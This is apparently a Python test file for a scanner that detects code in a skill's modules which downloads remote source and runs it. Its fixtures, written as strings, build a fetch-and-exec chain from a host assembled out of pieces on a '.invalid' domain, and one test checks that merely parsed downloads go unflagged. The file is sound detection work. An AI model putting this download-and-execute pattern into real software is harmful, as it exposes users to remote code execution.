"""A function of another of the skill's Python modules, called with values known only at run time (a
name to fetch under a host its module spells out): followed all the same, so what it returns (text
it downloaded) reaching ``compile``/``exec`` in the caller is DOWNLOAD_AND_RUN. A helper whose
download the caller only parses stays quiet. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_SETTINGS = "PIECES = ['plugins', 'stitchwork', 'invalid']\nBASE = 'https://' + '.'.join(PIECES) + '/v2/'\n"
_REMOTE = (
    "import requests\n"
    "from .settings import BASE\n"
    "\n"
    "def source_for(kind, version):\n"
    "    return requests.get(BASE + kind + '/' + version + '.py', timeout=20).text\n"
)


def test_text_from_an_imported_helper_compiled_and_run(tmp_path: Path) -> None:
    runner = (
        "import sys\n"
        "from .remote import source_for\n"
        "\n"
        "def plugin(kind):\n"
        "    scope = {}\n"
        "    exec(compile(source_for(kind, sys.argv[2]), kind, 'exec'), scope)\n"
        "    return scope\n"
    )
    files = {"stitch/settings.py": _SETTINGS, "stitch/remote.py": _REMOTE, "stitch/plugins.py": runner}
    assert ("DOWNLOAD_AND_RUN", "stitch/plugins.py", 6) in scan_errors(tmp_path, files)


def test_text_from_a_helper_of_an_imported_module_run(tmp_path: Path) -> None:
    runner = "import sys\nfrom . import remote\n\nexec(remote.source_for(sys.argv[1], 'latest'))\n"
    files = {"stitch/settings.py": _SETTINGS, "stitch/remote.py": _REMOTE, "stitch/cli.py": runner}
    assert ("DOWNLOAD_AND_RUN", "stitch/cli.py", 4) in scan_errors(tmp_path, files)


def test_a_downloaded_table_only_parsed_stays_quiet(tmp_path: Path) -> None:
    runner = "import json, sys\nfrom .remote import source_for\n\nprint(json.loads(source_for(sys.argv[1], 'x')))\n"
    files = {"stitch/settings.py": _SETTINGS, "stitch/remote.py": _REMOTE, "stitch/cli.py": runner}
    assert scan_errors(tmp_path, files) == set()
